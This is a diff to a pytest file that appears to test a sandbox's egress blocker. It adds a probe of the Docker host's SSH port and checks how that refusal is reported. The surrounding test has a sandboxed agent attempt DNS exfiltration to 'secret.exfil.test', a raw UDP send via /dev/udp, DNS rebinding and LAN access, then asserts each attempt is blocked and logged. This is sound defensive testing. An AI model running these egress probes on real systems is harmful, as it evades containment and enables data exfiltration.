@@ -10,7 +10,7 @@ from typing import Any
 
 import pytest
 
-from tests.netns.lab.addresses import AGENT, EVIL4, NEIGHBOUR4
+from tests.netns.lab.addresses import AGENT, EVIL4, GATEWAY4, NEIGHBOUR4
 from tests.netns.lab.container import DOCKER
 from tests.netns.lab.lab import Lab
 from tests.netns.redteam.adapter import made
@@ -80,6 +80,7 @@ def test_blocked_says_what_was_refused_and_why(inside: Inside) -> None:
     inside.agent(
         curl("https://rebind-lan.test/", f"http://{NEIGHBOUR4}/", "http://allowed.test:81/")
     )
+    inside.agent(curl("http://host.docker.internal:22/"))
     inside.agent("dig +time=1 +tries=1 TXT secret.exfil.test; echo x >/dev/udp/45.66.77.99/123")
     time.sleep(0.3)
     found = {place(one): one for one in inside.blocked()}
@@ -92,6 +93,8 @@ def test_blocked_says_what_was_refused_and_why(inside: Inside) -> None:
     assert ("secret.exfil.test", None, None, "dns", "record") in found
     assert ("rebind-lan.test", None, None, "dns", "rebind") in found
     assert (None, "45.66.77.99", 123, "udp", "address") in found
+    machine = found["host.docker.internal", GATEWAY4, 22, "tcp", "peer"]
+    assert (machine["commands"], "gateway" in machine["help"]) == ([], True)
     one = found[None, EVIL4, 443, "tcp", "address"]
     assert (one["uid"], one["count"]) == (AGENT, 1)
     assert one["commands"] == [f"mcpconf allow {EVIL4} --port 443"]
